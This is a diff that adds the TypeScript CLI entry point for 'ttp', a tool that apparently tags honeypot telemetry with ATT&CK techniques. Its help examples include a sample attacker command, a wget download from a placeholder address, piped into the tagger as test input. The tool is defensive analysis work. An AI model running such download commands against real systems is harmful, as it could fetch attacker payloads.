@@ -1,2 +1,39 @@
 // SPDX-License-Identifier: AGPL-3.0-or-later
-export {};
+import { Command, CommanderError } from 'commander';
+import { COMMANDS } from './commands';
+import { EXIT } from '@ttp/config/exit-codes';
+import { reportError } from './terminal/report-error';
+
+/** Builds the program with only the invoked command configured: the others are names, so that help is quick. */
+async function programFor(args: readonly string[]): Promise<Command> {
+  const program = new Command('ttp').description('ATT&CK tagging for deception telemetry').exitOverride();
+  program.addHelpText('after', EXAMPLES);
+  for (const { name, summary, load } of COMMANDS) {
+    const command = program.command(name).description(summary).exitOverride();
+    if (args.includes(name) && args.find((arg) => !arg.startsWith('-')) === name) (await load()).configure(command);
+  }
+  return program;
+}
+
+const EXAMPLES = `
+Examples:
+  ttp up                                        all four services on SQLite and a private broker
+  ttp ingest cowrie /var/log/cowrie/cowrie.json --follow
+  echo '{"id":"1","commands":["wget http://192.0.2.1/x"]}' | ttp tag
+  ttp rules lint rules/ttp
+  ttp config show
+
+Exit codes: 0 ok, 1 findings or runtime failure, 2 usage or rule error, 3 configuration or validation failure.`;
+
+async function run(): Promise<void> {
+  const args = process.argv.slice(2);
+  try {
+    await (await programFor(args)).parseAsync(args, { from: 'user' });
+  } catch (error) {
+    // Commander has already printed what it had to say; help and version are not errors.
+    if (error instanceof CommanderError) process.exitCode = error.exitCode === 0 || error.code === 'commander.help' ? EXIT.ok : EXIT.usage;
+    else process.exitCode = reportError(error);
+  }
+}
+
+void run();
